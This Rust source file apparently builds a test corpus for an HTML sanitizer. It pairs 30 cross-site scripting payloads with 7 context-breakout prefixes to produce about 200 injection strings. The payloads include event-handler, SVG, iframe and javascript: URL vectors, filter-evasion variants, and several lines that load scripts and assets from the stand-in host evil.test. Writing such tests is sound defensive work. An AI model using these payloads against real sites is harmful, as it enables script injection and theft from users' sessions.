//! Two hundred attempts to run a script from text: what begins one, in every way out of the text around it.

/// Each sets `window.pwned` or asks another host, where a page believes it. Nothing of it does anything else.
const SCRIPTS: [&str; 30] = [
    "<script>window.pwned=1</script>",
    "<ScRiPt\n>window.pwned=1</sCrIpT\t>",
    "<script/x src=//evil.test/a.js></script>",
    "<script src=data:text/javascript,window.pwned=1></script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img/src='x'/onerror='window.pwned=1'>",
    "<img src=\"x\" onerror=\"window['pwned']=1\">",
    "<IMG SRC=x ONERROR=&#119;indow.pwned=1>",
    "<image xlink:href=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.pwned=1><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
    "<body onload=window.pwned=1>",
    "<video autoplay><source onerror=window.pwned=1>",
    "<audio src=x onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1></select>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=data:text/html,<script>parent.pwned=1</script>></object>",
    "<embed src=//evil.test/a.svg>",
    "<link rel=preload as=script href=//evil.test/a.js>",
    "<style>@import '//evil.test/a.css';</style>",
    "<div style=background:url(//evil.test/a.png);animation:x onanimationstart=window.pwned=1>x</div>",
    "<a href=javascript:window.pwned=1 autofocus onfocus=window.pwned=1>x</a>",
];

/// Out of an element's text, an attribute, a script, a style, a comment, a title.
const WAYS_OUT: [&str; 7] = ["", "\">", "'>", "</script>", "</textarea></title></style>", "--!>", "]]>"];

pub(crate) fn all() -> Vec<String> {
    SCRIPTS.iter().flat_map(|script| WAYS_OUT.iter().map(move |way| format!("{way}{script}"))).collect()
}
